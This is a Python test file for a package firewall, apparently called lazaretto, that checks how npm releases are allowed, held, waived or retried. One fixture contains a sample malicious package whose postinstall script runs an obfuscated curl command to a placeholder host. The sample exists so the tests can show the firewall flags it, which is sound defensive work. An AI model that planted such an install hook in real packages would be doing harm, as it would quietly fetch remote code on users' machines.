"""One artifact read for the firewall: the answer says what was read, and keeps exactly those bytes."""

from datetime import timedelta
from hashlib import sha256
from pathlib import Path
from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from lazaretto.app.appraise import TRY_AGAIN, appraise
from lazaretto.app.ports import BlobError, BlobStore, JournalError, ReadAnswer, ReadRequest, Unavailable
from lazaretto.app.report import UpdateReport
from lazaretto.core.finding import Example
from lazaretto.core.names import ProjectName, Purl, Version
from lazaretto.core.policy import Policy, Waiver
from lazaretto.core.standing import told_digest
from lazaretto.infra.blobs import BlobFolder
from tests.app.house import MemoryHouse
from tests.examples import World, build_world

BEFORE = {"package.json": '{"name": "example-package", "version": "1.0.0"}\n', "index.js": "module.exports = 1;\n"}
AFTER = {"package.json": '{"name": "example-package", "version": "1.0.1"}\n', "index.js": "module.exports = 2;\n"}
RUNS = {
    "package.json": '{"name": "example-package", "version": "1.0.1", "scripts": {"postinstall": "node setup.js"}}\n',
    "setup.js": "require('child_process').exec(atob('Y3VybCBodHRwczovL2Ryb3AuZXhhbXBsZS5pbnZhbGlkL3g='));\n",
}


class Case:
    """A small world, the question about its newest release, and where the bytes go."""

    def __init__(self, folder: Path, after: dict[str, str], policy: Policy | None = None) -> None:
        example = Example(title="", before=BEFORE, after=after, world={})
        self.world, name, version, self.now = build_world(example)
        self.policy = policy or Policy()
        self.house = MemoryHouse(self.world, self.policy)
        self.blobs: BlobStore = BlobFolder(folder)
        release = self.world.project(ProjectName(name)).release(Version(version))
        assert release is not None
        self.artifact = release.artifacts[0]
        told = told_digest(self.artifact)
        self.request = ReadRequest("npm", ProjectName(name), Version(version), self.artifact.filename, told)

    def read(self, **changes: Any) -> ReadAnswer:
        """Read it."""
        request = replace(self.request, **changes)
        asker = self.house.asker("npm")
        return appraise(request, asker, self.registry, self.blobs, self.policy, self.now)

    @property
    def registry(self) -> World:
        """The registry that is asked."""
        return self.world


def test_what_is_clean_is_allowed(tmp_path: Path) -> None:
    """Its bytes and its report are kept; nothing makes it expire."""
    case = Case(tmp_path, AFTER)
    answer = case.read()
    data = case.world.download(case.artifact)

    assert (answer.outcome, answer.complete, answer.suspected, answer.expires) == ("allow", True, False, None)
    assert answer.sha256 == f"sha256:{sha256(data).hexdigest()}"
    assert case.blobs.get(answer.sha256) == data
    assert answer.report is not None
    kept = case.blobs.get(answer.report)
    assert kept is not None
    assert msgspec.json.decode(kept, type=UpdateReport).version == "1.0.1"


def test_what_is_charged_is_suspected_for_good(tmp_path: Path) -> None:
    """A charge does not pass with time."""
    answer = Case(tmp_path, RUNS).read()

    assert answer.outcome in ("hold", "block")
    assert (answer.suspected, answer.clean, answer.expires) == (True, False, None)
    assert "charges of" in answer.reason


def test_a_waiver_of_the_settings_ends(tmp_path: Path) -> None:
    """What it permits expires with it."""
    plain = Case(tmp_path, RUNS)
    purl = Purl(f"pkg:npm/{plain.request.project}@{plain.request.version}")
    until = plain.now + timedelta(days=2)
    waived = Case(tmp_path, RUNS, Policy(waivers=(Waiver("known", "ada", until, purl=purl),)))
    answer = waived.read()

    assert (answer.outcome, answer.expires) == ("allow", until)


def test_a_file_that_is_gone_or_another(tmp_path: Path) -> None:
    """The index has it no more, or tells another digest: nothing was read, and it is tried again later."""
    case = Case(tmp_path, AFTER)
    gone = case.read(filename="other.tgz")
    other = case.read(told="sha512:00")

    for answer in (gone, other):
        assert (answer.outcome, answer.complete, answer.sha256) == ("hold", False, None)
        assert answer.expires == case.now + TRY_AGAIN
    assert other.told == case.request.told


def test_an_artifact_that_cannot_be_got_is_incomplete(tmp_path: Path) -> None:
    """Held, without bytes, and read again when the time has come."""
    case = Case(tmp_path, AFTER)
    case.world.broken[case.artifact.filename] = Unavailable("the registry has trouble")
    answer = case.read()

    assert (answer.outcome, answer.complete, answer.suspected, answer.sha256) == ("hold", False, False, None)
    assert answer.expires == case.now + TRY_AGAIN


def test_other_bytes_at_the_second_look(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is kept is what was read, or nothing."""
    case = Case(tmp_path, AFTER)
    real, calls = case.world.download, []

    def download(artifact: Any) -> bytes:
        calls.append(artifact.filename)
        data: bytes = real(artifact)
        return data if calls.count(case.artifact.filename) < 2 else data + b" "

    monkeypatch.setattr(case.world, "download", download)
    answer = case.read()

    assert (answer.outcome, answer.sha256) == ("hold", None)
    assert "other bytes" in answer.reason


@pytest.mark.parametrize("broken", ["blobs", "journal"])
def test_stores_that_fail_decide_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, broken: str) -> None:
    """A full disk and a locked journal say nothing of the release: it is not held for them, and can be read again."""
    case = Case(tmp_path, AFTER)

    def full(*_: object) -> None:
        raise BlobError("No space left on device") if broken == "blobs" else JournalError("database is locked")

    if broken == "blobs":
        monkeypatch.setattr(case.blobs, "put", full)
    else:
        monkeypatch.setattr(case.house.journal, "append", full)
    answer = case.read()

    assert (answer.outcome, answer.complete) == ("", False)
    assert ("No space left" if broken == "blobs" else "is locked") in answer.reason
